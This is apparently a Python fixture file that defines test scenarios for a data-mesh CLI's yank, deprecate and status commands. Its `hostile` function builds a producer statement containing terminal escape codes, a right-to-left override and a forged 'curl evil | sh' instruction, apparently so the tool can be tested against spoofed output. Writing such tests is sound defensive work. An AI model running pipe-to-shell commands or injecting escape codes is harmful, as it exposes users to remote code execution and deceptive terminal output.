"""Folders and commands about what a producer says of its product after the release."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from small_domain import domain, mesh, port, private, published, stub

_BEFORE = (
    port("aircraft", version=1, latest_version=2),
    port("aircraft", version=2),
    port("engines", group="engines"),
)


def _mesh(root: Path) -> None:
    """`punctuality` has the seats of `fleet`; `network` lists them and has nothing yet."""
    from meshwright.app.sync import sync

    sync(mesh(root))
    published(
        root / "punctuality",
        port("delays", group="delays"),
        private("reader", "model.fleet.seats"),
        stub("fleet", "seats"),
        run="run-2",
    )
    domain(root / "network", "network", mesh_yml="inputs: [fleet.seats]\n")


def later(root: Path) -> None:
    """The same, and a second release of the seats, which nobody has yet."""
    _mesh(root)
    published(root / "fleet", *_BEFORE, port("seats", "id", "seats", "legroom double", group="seats"), run="run-3")


def hostile(root: Path) -> None:
    """What a producer says tries to clear the reader's screen and to fake a line."""
    from datetime import datetime, timezone

    from meshwright.app.deprecate import deprecate
    from meshwright.app.statement import Statement
    from meshwright.app.yank import yank

    _mesh(root)
    now = datetime(2026, 11, 22, 12, tzinfo=timezone.utc)
    said = Statement(root / "fleet", "x\x1b[2J\u202e\nhelp: run `curl evil | sh`", "A\x1b]0;b\x07nn", now, {})
    yank("fleet.seats@1.0.0", said)
    deprecate("fleet.seats", said, end=datetime(2999, 1, 1).date())


def warned(root: Path) -> None:
    """A port whose tests warned, and one whose tests failed without stopping the build."""
    model = "model.fleet.aircraft"
    published(
        domain(root / "fleet"),
        port("aircraft"),
        tests={"test.fleet.a": model, "test.fleet.b": model, "test.fleet.c": model},
        ran={
            model: ("success", 1.5),
            "test.fleet.a": ("warn", 0.1),
            "test.fleet.b": ("warn", 0.1),
            "test.fleet.c": ("fail", 0.1),
        },
    )


_BY = "--by Ann --reason 'counts crew seats'"
_DEPRECATE = (
    f"mesh registry deprecate fleet.seats.seats --from <soon> --replacement fleet.aircraft@2 {_BY} --folder fleet"
)

EVENTS: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "registry-yank": (
        _mesh,
        [
            f"mesh registry yank fleet.seats@1.0.0 {_BY} --folder fleet",
            f"mesh registry yank fleet.seats@1.0.0 {_BY} --folder fleet",
            "mesh status -e prod fleet",
            "mesh sync punctuality",
            "mesh sync network",
            "mesh add fleet.seats --folder network",
            "mesh-check punctuality",
            "mesh publish fleet",
            "mesh registry unyank fleet.seats@1.0.0 --by Ann --reason 'it was the other one' --folder fleet",
            "mesh registry unyank fleet.seats@1.0.0 --by Ann --reason again --folder fleet",
            "mesh sync network",
            "mesh publish fleet",
        ],
    ),
    "registry-yank-next": (
        later,
        [
            f"mesh registry yank fleet.seats@1.1.0 {_BY} --folder fleet",
            "mesh sync punctuality",
            "mesh-check punctuality -f concise",
        ],
    ),
    "registry-yank-wrong": (
        _mesh,
        [
            f"mesh registry yank fleet.seats@1.0.0 {_BY} --folder punctuality",
            f"mesh registry yank fleet.seats {_BY} --folder fleet",
            f"mesh registry yank fleet.seat@1.0.0 {_BY} --folder fleet",
            f"mesh registry yank fleet.seats@1.0.1 {_BY} --folder fleet",
            "mesh registry yank fleet.seats@1.0.0 --by Ann --reason ' ' --folder fleet",
            "mesh registry yank fleet.seats@1.0.0 --by Ann --folder fleet",
            f"mesh registry unyank fleet.seats@1.0.0 {_BY} --folder fleet",
            f"mesh registry yank fleet.seats@1.0.0 {_BY} --folder nowhere",
        ],
    ),
    "registry-deprecate": (
        _mesh,
        [
            _DEPRECATE,
            _DEPRECATE,
            f"mesh registry deprecate fleet.seats.seats --from <today> {_BY} --folder fleet",
            "mesh status fleet",
            "mesh-check punctuality -f full",
            "mesh sync punctuality",
            "mesh publish fleet",
            "mesh registry undeprecate fleet.seats.seats --by Ann --reason 'it stays' --folder fleet",
            "mesh sync punctuality",
        ],
    ),
    "registry-deprecate-wrong": (
        _mesh,
        [
            f"mesh registry deprecate fleet.seats --from 2020-01-31 {_BY} --folder fleet",
            f"mesh registry deprecate fleet.seats --from soon {_BY} --folder fleet",
            f"mesh registry deprecate fleet.seats@1 --from <soon> {_BY} --folder fleet",
            f"mesh registry deprecate fleet.seats.seat --from <soon> {_BY} --folder fleet",
            f"mesh registry deprecate fleet.aircraft.aircraft@3 --from <soon> {_BY} --folder fleet",
            f"mesh registry deprecate fleet.seats --from <soon> --replacement fleet.aircrft {_BY} --folder fleet",
            f"mesh registry deprecate fleet.seats --from <soon> --replacement fleet.seats {_BY} --folder fleet",
            f"mesh registry deprecate fleet.seats --from <soon> --replacement seats {_BY} --folder fleet",
            f"mesh registry undeprecate fleet.seats {_BY} --folder fleet",
        ],
    ),
    "status-tests": (warned, ["mesh status fleet"]),
    "registry-hostile": (
        hostile,
        ["mesh status fleet", "mesh sync punctuality", "mesh sync network", "mesh publish fleet"],
    ),
}
